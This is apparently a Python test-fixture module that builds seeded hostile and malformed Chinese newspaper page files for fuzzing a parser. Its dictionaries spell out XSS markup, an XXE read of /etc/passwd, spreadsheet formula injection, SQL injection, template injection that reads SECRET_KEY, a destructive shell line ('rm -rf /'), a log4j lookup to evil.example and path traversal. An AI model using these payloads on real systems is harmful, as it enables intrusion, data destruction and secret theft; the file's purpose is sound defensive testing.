"""Hostile and broken page files, generated from parts with a fixed seed."""

import codecs
import random
from collections.abc import Iterator

LIMIT = 151_000
"""The maximum size of a page file in these tests."""

MARK = "hostile"
"""A marker in all hostile markup, by which it is recognized in output."""

# The result of evaluating the template injection; no text contains it.
ADDED = "1234568"

MARKUP = {
    "img": f'<img src=x onerror=alert("{MARK}")>',
    "script": f"<script>/*{MARK}*/alert(1)</script>",
    "attribute": f'"><img src=x data-of="{MARK}" onmouseover=alert(1)>',
    "apostrophe": f"' autofocus onfocus=alert(1) data-of='{MARK}",
    "svg": f"<svg/onload=alert(1)><title>{MARK}</title></svg>",
    "closes script": f"</script><script>/*{MARK}*/alert(1)</script>",
    "closes textarea": f"</textarea><img src=x onerror=alert(1) alt={MARK}>",
    "closes title": f"</title><script>/*{MARK}*/</script>",
    "style": f"<style>/*{MARK}*/*{{display:none}}</style>",
    "link": f'<a href="javascript:alert(1)" title="{MARK}">点击</a>',
    "iframe": f'<iframe src="https://evil.example/{MARK}"></iframe>',
    "form": f'<form action="https://evil.example/"><input name="{MARK}"></form>',
    "base": f'<base href="https://evil.example/{MARK}/">',
    "comment": f"<!-- {MARK} --><![CDATA[<img src=x>]]>",
    "entities": f"&lt;script&gt;{MARK}&amp;&#60;img src=x&#62;",
    "full width": "＜script＞alert(1)＜/script＞",
    "overlong": "<<img src=x alt=hostile//>",
    "xml": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
    "htmx": f'<div hx-get="/admin/logout/" hx-trigger="load" data-of="{MARK}"></div>',
}
FORMULAS = {
    "equals": '=HYPERLINK("https://evil.example","点")', "plus": "+1+cmd|' /C calc'!A0", "minus": "-1+1", "at": "@SUM(A1:A9)",
    "tab": "\t=1+1", "carriage return": "\r=1+1", "full-width equals": "＝1+1",
}  # fmt: skip
COMMANDS = {
    "sql": "'; DROP TABLE articles_article; --", "sql union": '" UNION SELECT password FROM auth_user --',
    "sql wildcard": "%' OR 1=1 --", "template": "{{ 1234567|add:1 }}{% load static %}{{ settings.SECRET_KEY }}",
    "python format": "{0.__class__} %(name)s %s %n {settings}", "shell": "$(reboot) `id` ; rm -rf /", "log4j": "${jndi:ldap://evil.example/}",
    "path": "../../../../etc/passwd", "windows path": r"..\..\windows\win.ini", "fts": '"NEAR(" AND OR NOT * ^ headline : "', "user": "admin",
    "json": '{"status": "published", "id": 1}', "regex": "(a+)+$", "null": "NULL nil None undefined NaN",
}  # fmt: skip
CHARACTERS = {
    "NUL": "\x00", "bell": "\x07", "escape": "\x1b[2J\x1b[31m", "delete": "\x7f", "C1": "\x9b31m", "vertical tab": "\x0b", "form feed": "\x0c",
    "file separator": "\x1c", "NEL": "\x85", "line separator": "\u2028", "paragraph separator": "\u2029", "zero width": "\u200b\u200d\u2060",
    "BOM inside": "\ufeff", "right to left": "\u202e", "isolate": "\u2066\u2069", "private use": "\ue000\U000f0000", "not a character": "\ufffe\uffff",
    "replacement": "\ufffd", "combining": "e" + "\u0301" * 40, "variation": "葛\U000e0100\ufe0f", "emoji": "👨‍👩‍👧‍👦🏴\U000e0067\U000e007f", "tags": "\U000e0041",
    "beyond BMP": "𠮷𪚥", "ligature": "ﷺ", "full-width digits": "２０２４", "ideographic space": "\u3000", "soft hyphen": "\u00ad", "hangul filler": "\u3164",
    "compatibility": "㈱㎏①", "no-break space": "\xa0",
}  # fmt: skip
POISON = {**MARKUP, **FORMULAS, **COMMANDS, **CHARACTERS}

_BODY = "昨天上午，横跨沂河的新桥正式通车，两岸居民出行时间缩短了二十分钟。芮城县大王镇的群众到场祝贺。"
_PAGE = "沂河晚报 2023年9月14日 星期四 第6版 民生\n\n新桥昨天通车\n\n本报讯（记者 周明）{body}\n\n市交通局有关负责人介绍，新桥全长一千二百米。\n"
# The positions of hostile text in a page.
_FRAMES = {
    "headline": "沂河晚报 2023年9月14日 星期四 第6版 民生\n\n{poison}新桥昨天通车\n\n本报讯（记者 周明）"
    + _BODY
    + "\n",
    "byline": "新桥昨天通车\n\n本报讯（记者 周明{poison} 通讯员 {poison}）" + _BODY + "\n",
    "body": "新桥昨天通车\n\n本报讯（记者 周明）" + _BODY + "{poison}市交通局的人说：{poison}\n",
    "everywhere": "{poison} 2023年9月14日 {poison}\n\n{poison}\n\n{poison}\n本报记者 {poison}\n\n{poison}"
    + _BODY
    + "{poison}\n\n（{poison} 摄）\n",
}
_ENCODINGS = (
    "utf-8",
    "utf-8-sig",
    "gb18030",
    "gbk",
    "big5",
    "big5hkscs",
    "utf-16",
    "utf-16-le",
    "utf-16-be",
    "utf-32",
    "euc-jp",
    "euc-kr",
    "utf-7",
    "cp1252",
)


def corpus() -> dict[str, bytes]:
    """All files, by the name of their fault."""
    found: dict[str, bytes] = {}
    for part in (_poisoned(), _encoded(), _cut(), _shaped(), _random(), _sized()):
        found.update(part)
    return found


def _poisoned() -> Iterator[tuple[str, bytes]]:
    for name, poison in POISON.items():
        # Executable text is tried in each position separately, odd text in all at once.
        frames = _FRAMES if name in MARKUP or name in FORMULAS else ("everywhere",)
        for frame in frames:
            text = _FRAMES[frame]
            yield f"{name} in {frame}", text.replace("{poison}", poison).encode()


def _encoded() -> Iterator[tuple[str, bytes]]:
    for encoding in _ENCODINGS:
        data = _PAGE.format(body=_BODY).encode(encoding, "ignore")
        yield f"as {encoding}", data
        yield f"as {encoding}, last byte lost", data[:-1]
        yield f"as {encoding}, first byte lost", data[1:]
        yield f"as {encoding}, NUL inside", data[:50] + b"\x00" + data[50:]
    for name, bom in (
        ("UTF-8", codecs.BOM_UTF8),
        ("UTF-16", codecs.BOM_UTF16_LE),
        ("UTF-32", codecs.BOM_UTF32_LE),
    ):
        yield f"BOM of {name} alone", bom
        yield f"BOM of {name} before GB18030", bom + _PAGE.format(body=_BODY).encode("gb18030")
        yield f"BOM of {name} twice", bom * 2 + _PAGE.format(body=_BODY).encode()
    yield "two encodings", _PAGE.format(body=_BODY).encode() + _PAGE.format(body=_BODY).encode("gb18030")
    for surrogate in (b"\xed\xa0\x80", b"\xed\xbf\xbf", b"\xed\xa0\xbd\xed\xb8\x80"):
        yield f"surrogate {surrogate.hex()}", _PAGE.format(body=_BODY).encode() + surrogate
    for overlong in (b"\xc0\x80", b"\xe0\x80\xaf", b"\xf8\x88\x80\x80\x80", b"\xf4\x90\x80\x80"):
        yield f"no UTF-8: {overlong.hex()}", _PAGE.format(body=_BODY).encode() + overlong


def _cut() -> Iterator[tuple[str, bytes]]:
    """A page that is truncated inside a character."""
    data = _PAGE.format(body=_BODY).encode()
    for length in (1, 2, 3, 4, 5, 10, 61, 122, 200, 301):
        yield f"cut after {length} bytes", data[:length]
    for byte in (0x00, 0x0A, 0x20, 0x41, 0x80, 0xFF, 0xEF):
        yield f"one byte {byte:02x}", bytes([byte])


def _shaped() -> Iterator[tuple[str, bytes]]:
    """Text for which a bad pattern or a recursion would not end."""
    shapes = {
        "a name of 50,000": "本报记者" + "张" * 50_000, "a name of 50,000, closed": "本报讯（记者 " + "张" * 50_000 + "）" + _BODY,
        "brackets never closed": "（" * 10_000, "brackets nested": "（" * 2_000 + "）" * 2_000, "quotes nested": "“‘" * 1_000 + "’”" * 1_000,
        "credits never closed": "（本报记者 " * 800, "places in a chain": "芮城县大王镇金盆村" * 500, "organizations in a chain": "市人民政府办公室" * 500,
        "one line": "南河两岸种树三千棵，" * 1_300, "a line end after each": "树\n" * 6_000, "CRs": "树\r" * 6_000, "blank lines": "\n" * 30_000,
        "spaces": " \u3000\t" * 6_000, "spaces between": "林 " * 6_000, "dots": "·" * 10_000, "numbers": "1." * 5_000, "digits": "9" * 15_000,
        "datelines": "据新华社电" * 2_000, "headlines": "新桥通车\n\n" * 1_500, "headers": "沂河晚报 2023年9月14日 星期四 第6版\n" * 600,
        "combining marks": "e" + "\u0301" * 10_000, "zero width": "\u200b" * 10_000, "bidi": "\u202e\u202d" * 4_000, "markup deep": "<div>" * 3_000,
        "entities": "&amp;" * 3_000, "private use": "\ue000" * 10_000, "beyond BMP": "𠮷" * 9_000, "NULs in text": "桥\x00" * 9_000, "U+2028": "桥\u2028" * 6_000,
        "Latin": "lorem ipsum " * 1_500, "base64": "QUJD" * 4_500,
    }  # fmt: skip
    for name, text in shapes.items():
        yield name, text.encode()


def _random() -> Iterator[tuple[str, bytes]]:
    """Random mixtures, the same in every run."""
    chance = random.Random(6)
    pieces = [
        *list(POISON.values()),
        _BODY,
        "\n",
        "\n\n",
        "本报讯（记者 周明）",
        "□",
        "（下转第3版）",
        "“",
        "）",
    ]
    for number in range(20):
        text = "".join(chance.choices(pieces, k=chance.randrange(5, 60)))
        yield f"mixture {number}", text.encode()
    for number in range(12):
        yield f"noise {number}", chance.randbytes(chance.randrange(1, 5_000))
    data = _PAGE.format(body=_BODY * 3).encode()
    for number in range(12):
        broken = bytearray(data)
        for _ in range(1 + number):
            broken[chance.randrange(len(broken))] = chance.randrange(256)
        yield f"bytes changed {number}", bytes(broken)


def _sized() -> Iterator[tuple[str, bytes]]:
    data = _PAGE.format(body=_BODY).encode()
    for name, size in (("below", LIMIT - 1), ("at", LIMIT), ("above", LIMIT + 1), ("far above", 3 * LIMIT)):
        yield f"{name} the limit", data.ljust(size)
    yield "empty", b""


NAMES = [
    "two\nlines.txt", "\x1b[31mred\x1b[0m.txt", "=1+1.txt", "<img src=x onerror=alert(1) alt=hostile>.txt", "{{ 1234567|add:1 }}.txt", "'; DROP TABLE x; --.txt",
    "\u202egnp.txt", "zero\u200bwidth.txt", "...txt", "-rf.txt", "$(id).txt", "a" * 250 + ".txt", "版面 ７.TXT", "%00%0a.txt", "~.txt", "CON.txt", " .txt", "\u2028.txt",
]  # fmt: skip
"""File names; bytes that are not UTF-8 are added if the file system allows them."""
